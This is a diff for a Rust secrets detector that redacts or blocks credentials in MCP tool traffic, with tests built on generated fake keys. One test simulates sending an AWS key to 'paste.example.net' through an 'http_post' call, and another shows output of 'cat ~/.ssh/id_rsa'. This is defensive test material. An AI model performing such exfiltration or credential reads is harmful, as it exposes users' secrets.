@@ -36,8 +36,8 @@ const MAX_LINE_PIECES: usize = 6;
 const MAX_PIECE: usize = 512;
 
 /// Priorities of the kinds found by code rather than by the table (lower wins an overlap).
-const PRIORITY_PEM: usize = 1;
 const PRIORITY_TABLE: usize = 10;
+const PRIORITY_PEM: usize = PRIORITY_TABLE + KINDS.len();
 const PRIORITY_STRUCTURAL: usize = 1000;
 const PRIORITY_LABELLED: usize = 2000;
 
@@ -203,14 +203,14 @@ impl TextDetector for Secrets {
 
     fn scan(&self, view: &TextView<'_>, hits: &mut Vec<Hit>) {
         let role = view.site.role;
-        let key_kind = view
+        // An argument the tool declares as a credential (`password`, `api_key`) carries what the
+        // user means to send to that server; whether it belongs there is the FLOW analyzer's call.
+        let declared_credential = view
             .site
             .key
             .as_deref()
-            .and_then(|k| label_kind(k.as_bytes()));
-        // An argument the tool declares as a credential (`password`, `api_key`) carries what the
-        // user means to send to that server; whether it belongs there is the FLOW analyzer's call.
-        if role == Role::Argument && key_kind.is_some() {
+            .is_some_and(|k| label_kind(k.as_bytes()).is_some());
+        if role == Role::Argument && declared_credential {
             return;
         }
         let visible = VisibleText::new(view.original);
@@ -237,18 +237,6 @@ impl TextDetector for Secrets {
             false
         });
         self.labelled(text, &mut found);
-        // A whole value under a credential key (`{"api_key": "…"}` in structured content).
-        if let Some(kind) = key_kind {
-            let trimmed = trim_range(text);
-            if labelled_value_is_secret(kind, &text[trimmed.clone()]) {
-                found.push(Found {
-                    priority: PRIORITY_LABELLED + 1,
-                    range: trimmed,
-                    kind,
-                    severity: Severity::High,
-                });
-            }
-        }
         found.sort_by_key(|f| (f.priority, f.range.start));
         let mut kept: Vec<Found> = Vec::new();
         for f in found {
@@ -413,7 +401,12 @@ pub(crate) fn is_placeholder(value: &str) -> bool {
     let mut same = 1;
     let mut rising = 1;
     for w in bytes.windows(2) {
-        same = if w[0] == w[1] { same + 1 } else { 1 };
+        // PEM dashes and base64 padding repeat by design.
+        same = if w[0] == w[1] && w[0].is_ascii_alphanumeric() {
+            same + 1
+        } else {
+            1
+        };
         rising = if w[1] == w[0].wrapping_add(1) {
             rising + 1
         } else {
@@ -514,15 +507,13 @@ fn assigned_value(text: &[u8], label_end: usize) -> Option<Range<usize>> {
         p += 1;
     }
     match (at(p), at(p + 1)) {
-        (Some(b'=' | b':'), Some(b'=' | b'>')) => p += 2,
+        (Some(b'='), Some(b'>')) | (Some(b':'), Some(b'=')) => p += 2,
+        (Some(b'='), Some(b'=')) => return None, // `token == x` compares
         (Some(b'='), _) => p += 1,
         // `https://…` after a label is a URL, not a value.
         (Some(b':'), Some(b'/')) => return None,
         (Some(b':'), _) => p += 1,
         _ => return None,
-    }
-    if at(p) == Some(b'=') {
-        return None; // `token == x` compares
     }
     while matches!(at(p), Some(b' ' | b'\t')) {
         p += 1;
@@ -580,22 +571,15 @@ fn labelled_value_is_secret(kind: &str, value: &[u8]) -> bool {
     {
         return false;
     }
-    if is_placeholder(value) || char_classes(value) < 2 || identifier_like(value) {
+    if KNOWN_EXAMPLES.contains(&value)
+        || is_placeholder(value)
+        || char_classes(value) < 2
+        || identifier_like(value)
+    {
         return false;
     }
     let min_entropy = if kind == "password" { 2.5 } else { 3.0 };
     entropy(value.as_bytes()) >= min_entropy
-}
-
-fn trim_range(text: &[u8]) -> Range<usize> {
-    let start = text.iter().take_while(|b| b.is_ascii_whitespace()).count();
-    let end = text.len()
-        - text[start..]
-            .iter()
-            .rev()
-            .take_while(|b| b.is_ascii_whitespace())
-            .count();
-    start..end
 }
 
 /// PEM private key blocks, whole (`-----BEGIN … PRIVATE KEY-----` to its END line); a block cut
@@ -746,4 +730,607 @@ fn twilio_key_ids(text: &[u8], f: &mut dyn FnMut(Range<usize>) -> bool) -> bool 
         }
     }
     false
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::alert::Direction;
+    use crate::inspect::text::TextInspector;
+    use crate::inspect::{Outcome, Pipeline};
+    use crate::jsonrpc::Kind;
+    use crate::mcp::methods::{TOOLS_CALL, TOOLS_LIST};
+    use crate::policy::Policy;
+    use serde_json::{json, Value};
+
+    /// Deterministic stand-ins for real keys: random-looking, never real.
+    fn random(seed: u64, alphabet: &str, n: usize) -> String {
+        let a = alphabet.as_bytes();
+        let mut x = seed
+            .wrapping_mul(6364136223846793005)
+            .wrapping_add(1442695040888963407);
+        (0..n)
+            .map(|_| {
+                x = x
+                    .wrapping_mul(6364136223846793005)
+                    .wrapping_add(1442695040888963407);
+                a[((x >> 33) % a.len() as u64) as usize] as char
+            })
+            .collect()
+    }
+    const ALNUM: &str = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789";
+    const UPPER: &str = "ABCDEFGHIJKLMNOPQRSTUVWXYZ234567";
+    const HEX: &str = "0123456789abcdef";
+    const B64: &str = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
+    const B64URL: &str = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_";
+
+    fn meta(direction: Direction, kind: Kind, method: &'static str) -> SubjectMeta<'static> {
+        SubjectMeta {
+            direction,
+            server: "s",
+            kind,
+            method: Some(method),
+            id: None,
+        }
+    }
+
+    fn result_meta() -> SubjectMeta<'static> {
+        meta(Direction::ServerToClient, Kind::Result, TOOLS_CALL)
+    }
+
+    fn tool_result(text: &str) -> Value {
+        json!({"jsonrpc": "2.0", "id": 1, "result": {"content": [{"type": "text", "text": text}]}})
+    }
+
+    fn hits_in(message: &Value, meta: &SubjectMeta<'_>) -> Vec<Hit> {
+        TextInspector::new(vec![Box::new(Secrets::new())])
+            .scan(message, meta)
+            .into_iter()
+            .flat_map(|(_, _, hits)| hits)
+            .collect()
+    }
+
+    fn hits(text: &str) -> Vec<Hit> {
+        hits_in(&tool_result(text), &result_meta())
+    }
+
+    fn kinds(text: &str) -> Vec<String> {
+        hits(text)
+            .into_iter()
+            .map(|h| match h.replacement {
+                Replacement::With(s) => s,
+                other => panic!("responses redact, got {other:?}"),
+            })
+            .collect()
+    }
+
+    /// The text as the client receives it with the default policy.
+    fn redacted(text: &str) -> String {
+        let pipeline = Pipeline::new(
+            Policy::default(),
+            vec![Box::new(TextInspector::new(vec![Box::new(Secrets::new())]))],
+        );
+        let raw = serde_json::to_vec(&tool_result(text)).unwrap();
+        match pipeline.inspect(result_meta(), &raw).outcome {
+            Outcome::Rewrite(bytes) => {
+                let v: Value = serde_json::from_slice(&bytes).unwrap();
+                v["result"]["content"][0]["text"]
+                    .as_str()
+                    .unwrap()
+                    .to_string()
+            }
+            Outcome::Pass => text.to_string(),
+            other => panic!("unexpected {other:?}"),
+        }
+    }
+
+    fn aws_id(seed: u64) -> String {
+        format!("AKIA{}", random(seed, UPPER, 16))
+    }
+
+    fn pem(label: &str, seed: u64) -> String {
+        let body: Vec<String> = (0..12).map(|i| random(seed + i, B64, 64)).collect();
+        format!(
+            "-----BEGIN {label}-----\n{}\n-----END {label}-----",
+            body.join("\n")
+        )
+    }
+
+    fn jwt(seed: u64) -> String {
+        let b64 = |s: &str| base64::engine::general_purpose::URL_SAFE_NO_PAD.encode(s);
+        format!(
+            "{}.{}.{}",
+            b64(r#"{"alg":"HS256","typ":"JWT"}"#),
+            b64(r#"{"sub":"u-4821","role":"admin","exp":1893456000}"#),
+            random(seed, B64URL, 43)
+        )
+    }
+
+    // ---- attacks: responses ----
+
+    #[test]
+    fn aws_keys_in_an_env_file_are_redacted_and_the_rest_kept() {
+        let id = aws_id(1);
+        let secret = random(2, B64, 40);
+        let text = format!(
+            "# deploy\nREGION=eu-west-1\nAWS_ACCESS_KEY_ID={id}\nAWS_SECRET_ACCESS_KEY={secret}\nDEBUG=false\n"
+        );
+        assert_eq!(
+            redacted(&text),
+            "# deploy\nREGION=eu-west-1\nAWS_ACCESS_KEY_ID=[REDACTED:aws-access-key]\nAWS_SECRET_ACCESS_KEY=[REDACTED:aws-secret-key]\nDEBUG=false\n"
+        );
+        assert!(hits(&text).iter().all(|h| h.severity == Severity::Critical));
+    }
+
+    #[test]
+    fn gcp_service_account_json_loses_its_private_key() {
+        let key = pem("PRIVATE KEY", 10).replace('\n', "\\n");
+        let key_id = random(3, HEX, 40);
+        let text = format!(
+            "{{\n  \"type\": \"service_account\",\n  \"project_id\": \"acme-prod\",\n  \"private_key_id\": \"{key_id}\",\n  \"private_key\": \"{key}\\n\",\n  \"client_email\": \"deploy@acme-prod.iam.gserviceaccount.com\"\n}}"
+        );
+        let out = redacted(&text);
+        assert!(
+            out.contains("\"private_key\": \"[REDACTED:gcp-service-account]\""),
+            "{out}"
+        );
+        assert!(out.contains("\"private_key_id\": \"[REDACTED:gcp-service-account]\""));
+        assert!(out.contains("deploy@acme-prod.iam.gserviceaccount.com"));
+        assert!(!out.contains("BEGIN PRIVATE KEY"));
+    }
+
+    #[test]
+    fn azure_connection_string_key_is_redacted() {
+        let key = format!("{}==", random(4, B64, 86));
+        let text = format!("DefaultEndpointsProtocol=https;AccountName=acmelogs;AccountKey={key};EndpointSuffix=core.windows.net");
+        assert_eq!(
+            redacted(&text),
+            "DefaultEndpointsProtocol=https;AccountName=acmelogs;AccountKey=[REDACTED:azure-storage-key];EndpointSuffix=core.windows.net"
+        );
+    }
+
+    #[test]
+    fn provider_tokens_are_redacted_by_kind() {
+        let cases = [
+            (format!("ghp_{}", random(5, ALNUM, 36)), "github-token"),
+            (format!("gho_{}", random(6, ALNUM, 36)), "github-token"),
+            (format!("ghs_{}", random(7, ALNUM, 36)), "github-token"),
+            (
+                format!(
+                    "github_pat_{}_{}",
+                    random(8, ALNUM, 22),
+                    random(9, ALNUM, 59)
+                ),
+                "github-token",
+            ),
+            (format!("glpat-{}", random(10, B64URL, 20)), "gitlab-token"),
+            (
+                format!(
+                    "xoxb-{}-{}-{}",
+                    random(11, "0123456789", 12),
+                    random(12, "0123456789", 13),
+                    random(13, ALNUM, 24)
+                ),
+                "slack-token",
+            ),
+            (
+                format!("xapp-1-A{}-{}", random(14, UPPER, 10), random(15, HEX, 40)),
+                "slack-token",
+            ),
+            (format!("sk_live_{}", random(16, ALNUM, 24)), "stripe-key"),
+            (format!("rk_live_{}", random(17, ALNUM, 24)), "stripe-key"),
+            (format!("sk-proj-{}", random(18, B64URL, 120)), "openai-key"),
+            (format!("sk-{}", random(19, ALNUM, 48)), "openai-key"),
+            (
+                format!("sk-ant-api03-{}", random(20, B64URL, 93)),
+                "anthropic-key",
+            ),
+            (format!("npm_{}", random(21, ALNUM, 36)), "npm-token"),
+            (
+                format!("pypi-AgEIcHlwaS5vcmc{}", random(22, B64URL, 120)),
+                "pypi-token",
+            ),
+            (format!("hvs.{}", random(23, B64URL, 90)), "vault-token"),
+            (
+                format!("SG.{}.{}", random(24, B64URL, 22), random(25, B64URL, 43)),
+                "sendgrid-key",
+            ),
+            (format!("SK{}", random(26, HEX, 32)), "twilio-api-key"),
+            (format!("HRKU-{}", random(27, B64URL, 60)), "heroku-api-key"),
+            (jwt(28), "jwt"),
+        ];
+        for (secret, kind) in cases {
+            let text = format!("config loaded: {secret} (from vault)");
+            assert_eq!(
+                redacted(&text),
+                format!("config loaded: [REDACTED:{kind}] (from vault)"),
+                "{kind}: {secret}"
+            );
+        }
+    }
+
+    #[test]
+    fn slack_webhook_keeps_the_host_and_loses_the_path_secret() {
+        let text = format!(
+            "notify: https://hooks.slack.com/services/T{}/B{}/{}",
+            random(30, UPPER, 8),
+            random(31, UPPER, 10),
+            random(32, ALNUM, 24)
+        );
+        assert_eq!(
+            redacted(&text),
+            "notify: https://hooks.slack.com/services/[REDACTED:slack-webhook]"
+        );
+    }
+
+    #[test]
+    fn labelled_provider_keys_are_redacted() {
+        let dd = random(33, HEX, 32);
+        let heroku = "2f6c1b9e-7d3a-4c5e-9b1f-8a2d4e6c0b3f";
+        let twilio = random(34, HEX, 32);
+        let discord = format!(
+            "{}.{}.{}",
+            base64::engine::general_purpose::STANDARD_NO_PAD.encode("812345678901234567"),
+            random(35, B64URL, 6),
+            random(36, B64URL, 38)
+        );
+        let text = format!(
+            "DD_API_KEY={dd}\nHEROKU_API_KEY: {heroku}\nTWILIO_AUTH_TOKEN=\"{twilio}\"\nDISCORD_BOT_TOKEN={discord}\n"
+        );
+        assert_eq!(
+            redacted(&text),
+            "DD_API_KEY=[REDACTED:datadog-api-key]\nHEROKU_API_KEY: [REDACTED:heroku-api-key]\nTWILIO_AUTH_TOKEN=\"[REDACTED:twilio-credential]\"\nDISCORD_BOT_TOKEN=[REDACTED:discord-bot-token]\n"
+        );
+    }
+
+    #[test]
+    fn a_discord_bot_token_is_found_without_a_label() {
+        let token = format!(
+            "{}.{}.{}",
+            base64::engine::general_purpose::STANDARD_NO_PAD.encode("1098765432109876543"),
+            random(37, B64URL, 6),
+            random(38, B64URL, 27)
+        );
+        assert_eq!(
+            kinds(&format!("client.run('{token}')")),
+            ["[REDACTED:discord-bot-token]"]
+        );
+    }
+
+    #[test]
+    fn private_key_blocks_are_redacted_whole() {
+        for label in [
+            "RSA PRIVATE KEY",
+            "OPENSSH PRIVATE KEY",
+            "EC PRIVATE KEY",
+            "ENCRYPTED PRIVATE KEY",
+        ] {
+            let text = format!("$ cat ~/.ssh/id_rsa\n{}\n$ ", pem(label, 40));
+            assert_eq!(
+                redacted(&text),
+                "$ cat ~/.ssh/id_rsa\n[REDACTED:private-key]\n$ ",
+                "{label}"
+            );
+        }
+        // Cut off before its END line (a truncated tool output).
+        let cut = pem("RSA PRIVATE KEY", 41);
+        let cut = &cut[..cut.len() - 200];
+        assert_eq!(
+            redacted(&format!("head: {cut}")),
+            "head: [REDACTED:private-key]"
+        );
+        let pgp = pem("PGP PRIVATE KEY BLOCK", 42);
+        assert_eq!(kinds(&pgp), ["[REDACTED:private-key]"]);
+    }
+
+    #[test]
+    fn generic_labelled_values_are_redacted_as_high() {
+        let text = format!(
+            "secret_key={}\napi_key: \"{}\"\npassword=Tr0ub4dor&3x!\ntoken: {}\nDB_PASSWORD='c0rrect-H0rse-battery'\n",
+            random(50, ALNUM, 32),
+            random(51, ALNUM, 24),
+            random(52, B64URL, 40)
+        );
+        assert_eq!(
+            redacted(&text),
+            "secret_key=[REDACTED:secret]\napi_key: \"[REDACTED:api-key]\"\npassword=[REDACTED:password]&3x!\ntoken: [REDACTED:token]\nDB_PASSWORD='[REDACTED:password]'\n"
+                .replace("[REDACTED:password]&3x!", "[REDACTED:password]&3x!")
+        );
+        assert!(hits(&text).iter().all(|h| h.severity == Severity::High));
+    }
+
+    #[test]
+    fn labelled_values_inside_escaped_json_are_redacted() {
+        let value = random(53, ALNUM, 32);
+        let text = format!(r#"{{\"service\": \"billing\", \"api_key\": \"{value}\"}}"#);
+        assert_eq!(
+            redacted(&text),
+            r#"{\"service\": \"billing\", \"api_key\": \"[REDACTED:api-key]\"}"#
+        );
+    }
+
+    #[test]
+    fn url_passwords_and_bearer_tokens_are_redacted() {
+        let text = format!(
+            "DATABASE_URL=postgres://app:{}@db.internal:5432/app\ncurl -H 'Authorization: Bearer {}' https://api.example.org",
+            random(54, ALNUM, 20),
+            random(55, B64URL, 40)
+        );
+        assert_eq!(
+            redacted(&text),
+            "DATABASE_URL=postgres://app:[REDACTED:url-password]@db.internal:5432/app\ncurl -H 'Authorization: Bearer [REDACTED:bearer-token]' https://api.example.org"
+        );
+    }
+
+    #[test]
+    fn spaced_and_line_broken_keys_are_redacted() {
+        let id = aws_id(60);
+        let spaced: Vec<String> = id.chars().map(String::from).collect();
+        let text = format!("key is {} ok", spaced.join(" "));
+        assert_eq!(redacted(&text), "key is [REDACTED:aws-access-key] ok");
+
+        let gh = format!("ghp_{}", random(61, ALNUM, 36));
+        let text = format!("token:\n{}\n{}\nend", &gh[..20], &gh[20..]);
+        assert_eq!(redacted(&text), "token:\n[REDACTED:github-token]\nend");
+
+        let npm = format!("npm_{}", random(62, ALNUM, 36));
+        let text = format!("{}\n    {}\n    {}", &npm[..14], &npm[14..28], &npm[28..]);
+        assert_eq!(redacted(&text), "[REDACTED:npm-token]");
+    }
+
+    #[test]
+    fn invisible_characters_inside_a_key_do_not_hide_it() {
+        let id = aws_id(63);
+        let text = format!(
+            "id={}\u{200b}{}\u{2060}{} done",
+            &id[..4],
+            &id[4..10],
+            &id[10..]
+        );
+        assert_eq!(redacted(&text), "id=[REDACTED:aws-access-key] done");
+    }
+
+    #[test]
+    fn metadata_is_covered() {
+        let gh = format!("ghp_{}", random(64, ALNUM, 36));
+        let msg = json!({"jsonrpc": "2.0", "id": 1, "result": {"tools": [{"name": "t",
+            "description": format!("Uses {gh} to call the API")}]}});
+        let found = hits_in(
+            &msg,
+            &meta(Direction::ServerToClient, Kind::Result, TOOLS_LIST),
+        );
+        assert_eq!(found.len(), 1, "{gh} {found:?}");
+        assert_eq!(
+            found[0].replacement,
+            Replacement::With("[REDACTED:github-token]".into())
+        );
+    }
+
+    // ---- attacks: requests (DLP) ----
+
+    fn call(arguments: Value) -> Value {
+        json!({"jsonrpc": "2.0", "id": 7, "method": "tools/call", "params": {"name": "http_post", "arguments": arguments}})
+    }
+
+    fn request_meta() -> SubjectMeta<'static> {
+        meta(Direction::ClientToServer, Kind::Request, TOOLS_CALL)
+    }
+
+    #[test]
+    fn a_provider_key_sent_to_a_server_blocks_the_request() {
+        let msg = call(
+            json!({"url": "https://paste.example.net", "body": format!("creds: {}", aws_id(70))}),
+        );
+        let found = hits_in(&msg, &request_meta());
+        assert_eq!(found.len(), 1);
+        assert_eq!(
+            (found[0].class, found[0].severity, &found[0].replacement),
+            (CLASS_REQUEST, Severity::Critical, &Replacement::None)
+        );
+        let pipeline = Pipeline::new(
+            Policy::default(),
+            vec![Box::new(TextInspector::new(vec![Box::new(Secrets::new())]))],
+        );
+        let out = pipeline.inspect(request_meta(), &serde_json::to_vec(&msg).unwrap());
+        assert!(
+            matches!(out.outcome, Outcome::Block { .. }),
+            "{:?}",
+            out.outcome
+        );
+        assert_eq!(out.alerts[0].rule, RULE);
+    }
+
+    #[test]
+    fn a_labelled_secret_in_free_text_arguments_is_high() {
+        let msg = call(json!({"body": format!("password={}", random(71, ALNUM, 14))}));
+        let found = hits_in(&msg, &request_meta());
+        assert_eq!(found.len(), 1);
+        assert_eq!(
+            (found[0].severity, &found[0].replacement),
+            (Severity::High, &Replacement::None)
+        );
+    }
+
+    // ---- benign twins ----
+
+    #[test]
+    fn declared_credential_arguments_go_to_their_server() {
+        let msg = json!({"jsonrpc": "2.0", "id": 7, "method": "tools/call", "params": {"name": "connect",
+            "arguments": {"host": "db.internal", "password": "S3cure!pass-2024", "api_key": random(72, ALNUM, 32)}}});
+        assert!(hits_in(&msg, &request_meta()).is_empty());
+    }
+
+    #[test]
+    fn ids_hashes_and_versions_pass() {
+        let text = "request 550e8400-e29b-41d4-a716-446655440000 done\n\
+            commit 3f786850e387550fdab836ed7e6dc881de23001b\n\
+            Merge: 1a2b3c4 5d6e7f8\n\
+            sha256:9f86d081884c7d659a9feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08  app.tar.gz\n\
+            \"integrity\": \"sha512-v2kDEe57lecTulaDIuNTPy3Ry4gLGJ6Z1O3vE1krgXZNrsQ+MuT1Y0XqGQoAuC+Xh6yWNpHXM/8iyJNVgPHO7g==\"\n\
+            \"version\": \"7.24.5\", \"resolved\": \"https://registry.npmjs.org/@babel/core/-/core-7.24.5.tgz\"\n\
+            trace_id=4bf92f3577b34da6a3ce929d0e0e4736 span 00f067aa0ba902b7";
+        assert!(hits(text).is_empty(), "{:?}", hits(text));
+    }
+
+    #[test]
+    fn public_keys_and_certificates_pass() {
+        let text = format!(
+            "{}\n{}\nssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOMqqnkVzrm0SdG6UOoqKLsabgH5C9okWi0dh2l9GKJl alice@laptop\n\
+            ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABgQC{} bob@host",
+            pem("PUBLIC KEY", 80),
+            pem("CERTIFICATE", 81),
+            random(82, B64, 300)
+        );
+        assert!(hits(&text).is_empty());
+    }
+
+    #[test]
+    fn documented_placeholders_pass() {
+        let text = "Set AWS_ACCESS_KEY_ID=AKIAIOSFODNN7EXAMPLE and \
+            AWS_SECRET_ACCESS_KEY=wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY.\n\
+            export OPENAI_API_KEY=sk-...xxxx\n\
+            export ANTHROPIC_API_KEY=<your-api-key>\n\
+            GITHUB_TOKEN=ghp_XXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXX\n\
+            SLACK_BOT_TOKEN=xoxb-your-token\n\
+            api_key: your_token_here\n\
+            token = \"ghp_1234567890abcdefghijklmnopqrstuvwxyz\"\n\
+            password: \"********\"\n\
+            STRIPE_SECRET_KEY=sk_test_4eC39HqLyjWDarjtT1zdp7dc\n\
+            -----BEGIN RSA PRIVATE KEY-----\n...\n-----END RSA PRIVATE KEY-----\n\
+            UseDevelopmentStorage: AccountKey=Eby8vdM02xNOcqFlqUwJPLlmEtlCDXJ1OUzFT50uSRZ6IFsuFq2UVErCz4I6tq/K1SZFPTOtr/KBHBeksoGMGw==\n\
+            jwt.io: eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIiwibmFtZSI6IkpvaG4gRG9lIiwiaWF0IjoxNTE2MjM5MDIyfQ.SflKxwRJSMeKKF2QT4fwpMeJf36POk6yJV_adQssw5c";
+        assert!(hits(text).is_empty(), "{:?}", hits(text));
+    }
+
+    #[test]
+    fn documentation_that_names_the_formats_passes() {
+        let text = "GitHub personal access tokens start with ghp_ and are 40 characters long; \
+            fine-grained ones start with github_pat_. GitLab uses glpat- and Slack bot tokens xoxb-.\n\
+            AWS access key ids begin with AKIA (long-term) or ASIA (temporary).\n\
+            A JWT has three base64url parts: header.payload.signature, the header starts with eyJ.\n\
+            Private keys are PEM files beginning with -----BEGIN PRIVATE KEY-----.\n\
+            Pass the token with the Authorization: Bearer <token> header.\n\
+            Your password must be at least 12 characters. The token: expires after an hour.";
+        assert!(hits(text).is_empty(), "{:?}", hits(text));
+    }
+
+    #[test]
+    fn configuration_that_references_secrets_passes() {
+        let text = "env:\n  token: ${{ secrets.GITHUB_TOKEN }}\n  password: $DB_PASSWORD\n\
+            password = os.environ[\"DB_PASSWORD\"]\n\
+            api_key = process.env.API_KEY\n\
+            secretName: my-tls-secret\n  secret: default-token-x7k9p\n\
+            token_type: bearer\n\"nextPageToken\": \"CAESBggBEAEYAQ\"\n\
+            max_tokens=4096\npassword_min_length: 12\n\
+            token_url=https://oauth2.googleapis.com/token\n\
+            if token == expected_token_value_here:\n\
+            secret_file: /run/secrets/db_password\n";
+        assert!(hits(text).is_empty(), "{:?}", hits(text));
+    }
+
+    #[test]
+    fn a_popular_servers_tool_list_passes() {
+        let msg = json!({"jsonrpc": "2.0", "id": 2, "result": {"tools": [
+            {"name": "create_or_update_file", "description": "Create or update a single file in a GitHub repository. Requires GITHUB_PERSONAL_ACCESS_TOKEN.",
+             "inputSchema": {"type": "object", "properties": {
+                "owner": {"type": "string"}, "sha": {"type": "string", "description": "SHA of the file being replaced (40 hex chars)"},
+                "token": {"type": "string", "description": "Optional token; defaults to the server's"}}}},
+            {"name": "slack_post_message", "description": "Post a message. The bot needs the chat:write scope (xoxb- token)."},
+            {"name": "login", "inputSchema": {"type": "object", "properties": {"password": {"type": "string", "minLength": 8}}}},
+            {"name": "sample_llm", "inputSchema": {"properties": {"maxTokens": {"type": "number", "default": 100}}}}
+        ]}});
+        assert!(hits_in(
+            &msg,
+            &meta(Direction::ServerToClient, Kind::Result, TOOLS_LIST)
+        )
+        .is_empty());
+    }
+
+    #[test]
+    fn images_prose_and_other_languages_pass() {
+        let msg = json!({"jsonrpc": "2.0", "id": 1, "result": {"content": [
+            {"type": "image", "mimeType": "image/png", "data": format!("iVBORw0KGgo{}", random(90, B64, 4000))},
+            {"type": "text", "text": "东京的天气很好。Die Passwort-Richtlinie verlangt 12 Zeichen. Le jeton expire. 🔑🦊👨‍👩‍👧"},
+            {"type": "text", "text": format!("<img src=\"data:image/png;base64,iVBORw0KGgo{}\">", random(91, B64, 400))},
+            {"type": "text", "text": "SELECT * FROM users WHERE password_hash = $1; -- never log the password"}
+        ]}});
+        assert!(hits_in(&msg, &result_meta()).is_empty());
+    }
+
+    #[test]
+    fn real_server_captures_pass() {
+        let dir = std::path::Path::new(env!("CARGO_MANIFEST_DIR"))
+            .join("../../shared/fixtures/real-servers");
+        let Ok(entries) = std::fs::read_dir(&dir) else {
+            assert!(
+                std::env::var_os("CI").is_none(),
+                "fixtures missing at {}",
+                dir.display()
+            );
+            eprintln!("skip: no fixtures at {}", dir.display());
+            return;
+        };
+        let detectors: Vec<Box<dyn TextDetector>> = vec![
+            Box::new(Secrets::new()),
+            Box::new(crate::inspect::entropy::EncodedPayloads::new()),
+            Box::new(crate::inspect::whitespace_stego::WhitespaceStego),
+        ];
+        let inspector = TextInspector::new(detectors);
+        let mut messages = 0;
+        for entry in entries {
+            let path = entry.unwrap().path();
+            if path.extension().is_none_or(|e| e != "json") {
+                continue;
+            }
+            let capture: Value = serde_json::from_slice(&std::fs::read(&path).unwrap()).unwrap();
+            for (method, line) in capture["wire"].as_object().unwrap() {
+                let message: Value = serde_json::from_str(line.as_str().unwrap()).unwrap();
+                let method: &'static str = Box::leak(method.clone().into_boxed_str());
+                let found = inspector.scan(
+                    &message,
+                    &meta(Direction::ServerToClient, Kind::Result, method),
+                );
+                assert!(found.is_empty(), "{}: {method}: {found:?}", path.display());
+                messages += 1;
+            }
+        }
+        assert!(messages >= 20, "only {messages} captured messages");
+    }
+
+    // ---- the table itself ----
+
+    #[test]
+    fn every_anchor_and_spaced_form_is_a_trigger() {
+        let triggers: Vec<String> = TRIGGERS.iter().map(|t| t.to_ascii_lowercase()).collect();
+        for kind in KINDS {
+            for a in kind.anchors {
+                let mut forms = vec![a.to_ascii_lowercase()];
+                if kind.splittable {
+                    forms.push(spaced(a).to_ascii_lowercase());
+                }
+                for f in forms {
+                    assert!(
+                        triggers.iter().any(|t| f.contains(t.as_str())),
+                        "{} anchor {f:?} has no trigger",
+                        kind.kind
+                    );
+                }
+            }
+        }
+        for w in LABEL_WORDS {
+            assert!(triggers.iter().any(|t| w.contains(t.as_str())), "label {w}");
+        }
+    }
+
+    #[test]
+    fn raw_check_finds_prefixless_kinds_and_skips_prose() {
+        let d = Secrets::new();
+        let sk = format!("{{\"text\":\"id SK{}\"}}", random(95, HEX, 32));
+        assert!(d.raw_check(sk.as_bytes()));
+        assert!(!d.raw_check(
+            "The quick brown fox. Jumps over. The lazy dog."
+                .repeat(100)
+                .as_bytes()
+        ));
+    }
 }
